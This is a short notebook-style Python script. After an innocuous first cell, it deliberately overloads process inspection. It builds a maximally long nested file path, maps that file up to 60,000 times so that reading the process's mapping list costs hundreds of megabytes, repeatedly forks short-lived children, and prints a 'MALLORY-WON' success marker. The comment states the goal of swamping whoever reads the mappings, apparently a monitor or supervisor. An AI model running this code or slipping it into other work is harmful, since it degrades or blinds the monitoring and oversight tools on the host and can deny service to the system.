# %%
pooled_features = 25
# %%
import ctypes, mmap, os, time

# Tens of thousands of mappings of one file whose path is as long as it can be: whoever reads the
# list of them reads hundreds of megabytes.
top = os.getcwd()
for _ in range(14):
    os.mkdir("x" * 240)
    os.chdir("x" * 240)
handle = os.open("file", os.O_RDWR | os.O_CREAT)
os.truncate(handle, 8192)
os.chdir(top)
libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, *[ctypes.c_int] * 3, ctypes.c_long]
for number in range(60_000):
    rights = mmap.PROT_READ | (mmap.PROT_WRITE if number % 2 else 0)
    if libc.mmap(None, 4096, rights, mmap.MAP_PRIVATE, handle, 0) == 2**64 - 1:
        break
# %%
import os
end = time.monotonic() + 25
while time.monotonic() < end:
    if os.fork() == 0:
        time.sleep(3)
        os._exit(0)
    time.sleep(1)
print("MALLORY" "-WON")
